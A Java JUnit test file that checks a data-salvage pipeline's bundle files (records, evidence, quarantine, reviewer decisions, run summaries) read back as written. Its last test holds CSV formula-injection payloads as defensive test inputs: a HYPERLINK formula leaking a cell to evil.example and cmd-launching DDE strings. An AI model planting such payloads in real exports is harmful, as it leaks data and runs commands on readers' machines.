package dev.salvage.pipeline.bundle;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.salvage.connectors.Quarantined;
import dev.salvage.connectors.RawRecord;
import dev.salvage.pipeline.bundle.Decision.Kind;
import dev.salvage.pipeline.bundle.ReconstructedRecord.Action;
import dev.salvage.pipeline.bundle.ReconstructedRecord.Change;
import dev.salvage.pipeline.bundle.ReconstructedRecord.Contribution;
import dev.salvage.pipeline.bundle.ReconstructedRecord.Evidence;
import dev.salvage.pipeline.bundle.ReconstructedRecord.FieldValue;
import dev.salvage.pipeline.bundle.ReconstructedRecord.Link;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every file of a run's bundle reads back what was written, in the shape on disk. */
class BundleFilesTest {
  @TempDir Path dir;

  private static ReconstructedRecord updatedCustomer() {
    return ReconstructedRecord.builder("customer:17", "customer")
        .action(Action.UPDATED)
        .confidence(0.75)
        .flag()
        .addReason("phone changed, by mail of 2026-03-05")
        .fields(
            Map.of(
                "email",
                new FieldValue("ana@example.com", List.of("backup:customers#17"), 1.0),
                "phone",
                new FieldValue("+351911111111", List.of("email:<a@x>"), 0.5)))
        .backup(Map.of("email", "ana@example.com", "phone", "+351922222222"), "backup:customers#17")
        .changes(
            List.of(new Change("phone", "+351922222222", "+351911111111", List.of("email:<a@x>"))))
        .keys(Map.of("email", List.of("ana@example.com")))
        .evidence(
            List.of(
                new Evidence("backup:customers#17", "backup", "customers", "2026-01-10T09:00:00Z"),
                new Evidence(
                    "email:<a@x>",
                    "mail",
                    "contact-change",
                    "2026-03-05T08:00:00Z",
                    Map.of("phone", "+351911111111"))))
        .links(
            List.of(
                new Link(
                    List.of("email:<a@x>"),
                    11.5,
                    0.9997,
                    false,
                    List.of(
                        new Contribution("(prior)", null, null, "1 in 900", -9.8),
                        new Contribution("full_name", "Ana", "Ana", "exact", 21.3)))))
        .build();
  }

  @Test
  void recordsAndUnlinkedEvidenceReadBackAsWritten() throws Exception {
    RunLayout run = RunLayout.of(dir);
    ReconstructedRecord unlinked =
        ReconstructedRecord.builder("unlinked:1", "payment")
            .confidence(0.2)
            .fields(Map.of("amount_cents", new FieldValue("500", List.of("stripe:ch_1"), 1.0)))
            .evidence(List.of(new Evidence("stripe:ch_1", "stripe", "charge", "2026-03-21T09:00Z")))
            .build();

    run.records().append(List.of(updatedCustomer()));
    run.unlinked().append(List.of(unlinked));

    assertThat(run.records().readAll()).containsExactly(updatedCustomer());
    assertThat(run.unlinked().readAll()).containsExactly(unlinked);
  }

  @Test
  void aRecordWrittenByThePreviousVersionLoadsAndWritesBackTheSame() throws Exception {
    // before evidence carried claims and records carried links
    String old =
        "{\"id\":\"customer:17\",\"entity\":\"customer\",\"action\":\"UPDATED\",\"confidence\":1.0,"
            + "\"flagged\":false,\"reasons\":[\"phone changed\"],\"fields\":{\"phone\":{\"value\":"
            + "\"+351911111111\",\"sources\":[\"email:<a@x>\"],\"confidence\":1.0}},\"backup\":{"
            + "\"phone\":\"+351922222222\"},\"backupRef\":\"backup:customers#17\",\"changes\":[{"
            + "\"field\":\"phone\",\"before\":\"+351922222222\",\"after\":\"+351911111111\","
            + "\"sources\":[\"email:<a@x>\"]}],\"keys\":{\"phone\":[\"+351911111111\"]},"
            + "\"evidence\":[{\"ref\":\"email:<a@x>\",\"source\":\"mail\",\"rule\":\"change\","
            + "\"observedAt\":\"2026-03-05T08:00:00Z\"}]}";
    Path file = dir.resolve("review/records.jsonl");
    Files.createDirectories(file.getParent());
    Files.writeString(file, old + "\n", StandardCharsets.UTF_8);

    ReconstructedRecord record = RunLayout.of(dir).records().readAll().get(0);

    assertThat(record.evidence().get(0).claims()).isEmpty();
    assertThat(record.links()).isEmpty();
    assertThat(record.value("phone")).isEqualTo("+351911111111");
    assertThat(Json.line(record)).isEqualTo(old);
  }

  @Test
  void evidenceKeepsTheRawRecordAsJsonOrAsTextWhenItIsNotJson() throws Exception {
    RunLayout run = RunLayout.of(dir);
    EvidenceEntry charge =
        EvidenceEntry.of(
            new RawRecord(
                "stripe",
                "stripe.charge",
                "stripe:ch_1",
                "stripe/charges-0001.json#0",
                "{\"id\":\"ch_1\",\"amount\":12345}"));
    EvidenceEntry text =
        EvidenceEntry.of(new RawRecord("mail", "mail", "email:<x>", "mbox#7", "not json {"));

    run.evidence().append(List.of(charge, text));

    List<EvidenceEntry> read = run.evidence().readAll();
    assertThat(read).containsExactly(charge, text);
    assertThat(read.get(0).json().get("amount").asLong()).isEqualTo(12345);
    assertThat(read.get(1).json().asText()).isEqualTo("not json {");
    assertThat(Files.readAllLines(run.evidence().path()).get(0))
        .isEqualTo(
            "{\"ref\":\"stripe:ch_1\",\"source\":\"stripe\",\"kind\":\"stripe.charge\","
                + "\"location\":\"stripe/charges-0001.json#0\",\"json\":{\"id\":\"ch_1\","
                + "\"amount\":12345}}");
  }

  @Test
  void quarantineReadsBackWithItsPlaceAndReason() throws Exception {
    RunLayout run = RunLayout.of(dir);
    QuarantineEntry bad =
        QuarantineEntry.of(
            new Quarantined(
                "stripe",
                "stripe/charges-0002.json",
                "Cannot parse Stripe page stripe/charges-0002.json: unexpected end of input",
                "{\"data\": ["));

    run.quarantine().append(List.of(bad));

    assertThat(run.quarantine().readAll()).containsExactly(bad);
  }

  @Test
  void decisionsOfEveryKindReadBackInTheAgreedShape() throws Exception {
    RunLayout run = RunLayout.of(dir);
    List<Decision> made =
        List.of(
            new Decision(
                "a", "2026-06-02T09:14:03Z", "alice", "r:1", Kind.APPROVE, null, null, null),
            new Decision(
                "b",
                "2026-06-02T09:15:40Z",
                "alice",
                "r:2",
                Kind.EDIT,
                Map.of("phone", "+351912345679"),
                "customer confirmed by phone",
                null),
            new Decision(
                "c", "2026-06-02T09:16:10Z", "alice", "r:3", Kind.REJECT, null, "test", null),
            new Decision("d", "2026-06-02T09:16:12Z", "alice", "r:3", Kind.UNDO, null, "", "c"));

    run.decisions().append(made);

    assertThat(run.decisions().readAll()).isEqualTo(made);
    assertThat(Files.readAllLines(run.decisions().path()))
        .containsExactly(
            "{\"id\":\"a\",\"at\":\"2026-06-02T09:14:03Z\",\"who\":\"alice\",\"record_id\":\"r:1\","
                + "\"decision\":\"approve\",\"edits\":{},\"reason\":\"\"}",
            "{\"id\":\"b\",\"at\":\"2026-06-02T09:15:40Z\",\"who\":\"alice\",\"record_id\":\"r:2\","
                + "\"decision\":\"edit\",\"edits\":{\"phone\":\"+351912345679\"},"
                + "\"reason\":\"customer confirmed by phone\"}",
            "{\"id\":\"c\",\"at\":\"2026-06-02T09:16:10Z\",\"who\":\"alice\",\"record_id\":\"r:3\","
                + "\"decision\":\"reject\",\"edits\":{},\"reason\":\"test\"}",
            "{\"id\":\"d\",\"at\":\"2026-06-02T09:16:12Z\",\"who\":\"alice\",\"record_id\":\"r:3\","
                + "\"decision\":\"undo\",\"edits\":{},\"reason\":\"\",\"undoes\":\"c\"}");
  }

  @Test
  void theSummaryOfTheCountersReadsBackAndKeepsItsShape() throws Exception {
    RunLayout run = RunLayout.of(dir);
    Files.createDirectories(run.countsTsv().getParent());
    Files.writeString(
        run.countsTsv(),
        String.join(
            "\n",
            "source.mail.read\t5",
            "source.mail.used\t3",
            "source.mail.ignored\t1",
            "source.mail.quarantined\t1",
            "rule.mail.confirmation\t3",
            "source.backup.read\t2",
            "source.backup.used\t2",
            "entity.customer.UPDATED\t1",
            "entity.customer.NEW\t2",
            "linking.oversized_key.customer.phone\t4",
            "linking.customer.block.email.pairs\t7",
            "source.mail.read\t1",
            "lookup_miss.mail.confirmation\t2",
            dev.salvage.pipeline.map.MapRecords.droppedEmitCounter("mail", "confirmation", "hire")
                + "\t2",
            dev.salvage.pipeline.map.MapRecords.ignoredKindCounter("mail", "mail.calendar_reply")
                + "\t1",
            "lookup_rows.cars\t40",
            ""),
        StandardCharsets.UTF_8);
    RunSummary.RunInfo info =
        new RunSummary.RunInfo(
            "/runs/salvage.yaml",
            "direct",
            2,
            "2026-03-01T00:00:00Z",
            "Europe/Lisbon",
            "2026-05-31T00:00:00Z",
            "s",
            "f",
            1.5);

    RunSummary summary =
        RunSummary.fromCounts(
            run.countsTsv(),
            List.of("mail", "backup"),
            List.of("customer"),
            Map.of("mail", 3),
            Map.of("cars.plate -> car_id", "lookup_rows.cars"),
            info);
    summary.write(run.summaryJson());

    assertThat(RunSummary.read(run.summaryJson())).isEqualTo(summary);
    assertThat(summary.recordsRead()).isEqualTo(8);
    assertThat(summary.unaccountedSources()).containsExactly("mail (read 6, accounted 5)");
    JsonNode json = Json.MAPPER.readTree(run.summaryJson().toFile());
    assertThat(fieldNames(json))
        .containsExactly("entities", "sources", "linking", "records_read", "lookup_tables", "run");
    assertThat(json.get("lookup_tables").get("cars.plate -> car_id").asLong()).isEqualTo(40);
    assertThat(json.get("sources").get("mail").get("lookup_misses").get("confirmation").asLong())
        .isEqualTo(2);
    assertThat(json.get("sources").get("mail").get("files_left_out").asInt()).isEqualTo(3);
    // an emit dropped for a required value missing: in the summary, not only on the console
    assertThat(json.at("/sources/mail/emits_dropped/confirmation~1hire").asLong()).isEqualTo(2);
    assertThat(json.get("sources").get("backup").has("emits_dropped")).isFalse();
    // records of a kind no rule reads: counted among the ignored, and named per kind
    assertThat(json.at("/sources/mail/ignored_kinds/mail.calendar_reply").asLong()).isEqualTo(1);
    assertThat(json.get("sources").get("backup").has("ignored_kinds")).isFalse();
    assertThat(json.get("sources").get("backup").has("files_left_out")).isFalse();
    assertThat(fieldNames(json.get("entities").get("customer")))
        .containsExactlyElementsOf(RunSummary.ACTIONS);
    assertThat(json.get("entities").get("customer").get("NEW").asLong()).isEqualTo(2);
    assertThat(fieldNames(json.get("linking"))).containsExactly("oversized_keys", "customer");
    assertThat(json.get("linking").get("oversized_keys").get("customer.phone").asLong())
        .isEqualTo(4);
    assertThat(json.get("linking").get("customer").get("block.email.pairs").asLong()).isEqualTo(7);
    assertThat(json.get("sources").get("mail").get("rules").get("confirmation").asLong())
        .isEqualTo(3);
    assertThat(json.get("run").get("backup_taken_at").asText()).isEqualTo("2026-03-01T00:00:00Z");
    assertThat(json.get("run").get("as_of").asText()).isEqualTo("2026-05-31T00:00:00Z");
  }

  @Test
  void theRunsWallTimeEndsWhenTheCommandFinishedItsWorkNotWhenThePipelineEnded() {
    RunSummary.RunInfo pipelineEnded =
        new RunSummary.RunInfo(
            "/runs/salvage.yaml",
            "flink localhost:8081",
            2,
            "2026-03-01T00:00:00Z",
            "Europe/Lisbon",
            "2026-05-31T00:00:00Z",
            "2026-12-05T13:06:22Z",
            "2026-12-05T13:15:49Z",
            567.0);
    RunSummary summary =
        new RunSummary(
            Map.of(),
            Map.of(),
            null,
            0,
            Map.of(),
            pipelineEnded,
            Map.of(),
            null,
            null,
            Map.of(),
            List.of());

    RunSummary.RunInfo done = summary.withFinish(Instant.parse("2026-12-05T13:17:39Z")).run();

    assertThat(done.finishedAt()).isEqualTo("2026-12-05T13:17:39Z");
    assertThat(done.wallSeconds()).isEqualTo(677.0);
    assertThat(done.startedAt()).isEqualTo("2026-12-05T13:06:22Z");
    assertThat(done.parallelism()).isEqualTo(2);
  }

  @Test
  void aSummaryWithoutLinkingOrRunDetailsStillLoads() throws Exception {
    Path file = dir.resolve("summary.json");
    Files.writeString(
        file,
        "{\"entities\":{},\"sources\":{\"mail\":{\"read\":1,\"used\":1}},\"records_read\":1,"
            + "\"run\":{\"config\":\"/runs/salvage.yaml\"}}");

    RunSummary summary = RunSummary.read(file);

    assertThat(summary.linking()).isNull();
    assertThat(summary.config()).isEqualTo("/runs/salvage.yaml");
    assertThat(summary.backupTakenAt()).isNull();
    assertThat(summary.sources().get("mail").rules()).isEmpty();
    assertThat(summary.unaccountedSources()).isEmpty();
  }

  @Test
  void aSummaryKeepsTheNoteOfAnEntityWhoseSourcesNoKeyJoinsBesideItsLinkingCounts()
      throws Exception {
    Path file = dir.resolve("summary.json");
    RunSummary summary =
        new RunSummary(
                Map.of("appointment", Map.of("NEW", 3L)),
                Map.of(),
                new RunSummary.Linking(
                    Map.of(), Map.of("appointment", Map.of("block.email.pairs", 7L)), Map.of()),
                3,
                Map.of(),
                null,
                Map.of(),
                null,
                null,
                Map.of(),
                List.of())
            .withNoSharedKey(
                Map.of("appointment", "appointment: no key joins the evidence of these 2 groups"));
    summary.write(file);

    JsonNode json = Json.MAPPER.readTree(file.toFile());
    assertThat(json.at("/linking/appointment/no_shared_key").asText())
        .isEqualTo("appointment: no key joins the evidence of these 2 groups");
    assertThat(json.at("/linking/appointment/block.email.pairs").asLong()).isEqualTo(7);
    RunSummary read = RunSummary.read(file);
    assertThat(read).isEqualTo(summary);
    assertThat(read.linking().byEntity().get("appointment"))
        .containsExactly(Map.entry("block.email.pairs", 7L));
  }

  @Test
  void aSummaryFromTheLabelPropagationDaysLoadsWithoutItsUnconvergedCount() throws Exception {
    Path file = dir.resolve("summary.json");
    Files.writeString(
        file,
        "{\"entities\":{},\"sources\":{},\"records_read\":0,\"linking\":{\"unconverged\":3,"
            + "\"oversized_keys\":{\"customer.phone\":4},"
            + "\"customer\":{\"block.email.pairs\":7}}}");

    RunSummary.Linking linking = RunSummary.read(file).linking();

    assertThat(linking.oversizedKeys()).containsExactly(Map.entry("customer.phone", 4L));
    assertThat(linking.byEntity()).containsOnlyKeys("customer");
  }

  @Test
  void theCsvRowQuotesWhatWouldBreakTheColumns() {
    ReconstructedRecord record =
        ReconstructedRecord.builder("reservation:\"9\"", "reservation")
            .addReason("one, two")
            .addReason("three")
            .fields(
                Map.of(
                    "status", new FieldValue("confirmed", List.of(), 1.0),
                    "notes", new FieldValue("line one\nline two", List.of(), 1.0)))
            .build();
    List<String> fields = List.of("notes", "pickup_at", "status");

    assertThat(RecordCsv.header(fields))
        .isEqualTo(
            "\uFEFFid,entity,action,confidence,flagged,backup_ref,evidence,reasons,notes,pickup_at,status");
    assertThat(RecordCsv.row(record, fields))
        .isEqualTo(
            "\"reservation:\"\"9\"\"\",reservation,NEW,1.0,false,,0,\"one, two; three\","
                + "\"line one\nline two\",,confirmed");
  }

  @Test
  void aValueASpreadsheetWouldRunAsAFormulaIsWrittenAsTextButNumbersAndPhonesAreNot() {
    assertThat(RecordCsv.escape("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"");
    assertThat(RecordCsv.escape("@SUM(1+1)*cmd|' /C calc'!A0"))
        .isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
    assertThat(RecordCsv.escape("+1+1")).isEqualTo("'+1+1");
    assertThat(RecordCsv.escape("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
    assertThat(RecordCsv.escape("\t=1+1")).isEqualTo("'\t=1+1");
    assertThat(RecordCsv.escape("+44 20 7946 0958")).isEqualTo("+44 20 7946 0958");
    assertThat(RecordCsv.escape("-12.50")).isEqualTo("-12.50");
    assertThat(RecordCsv.escape("Ana-Maria")).isEqualTo("Ana-Maria");
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    node.fieldNames().forEachRemaining(names::add);
    return names;
  }
}
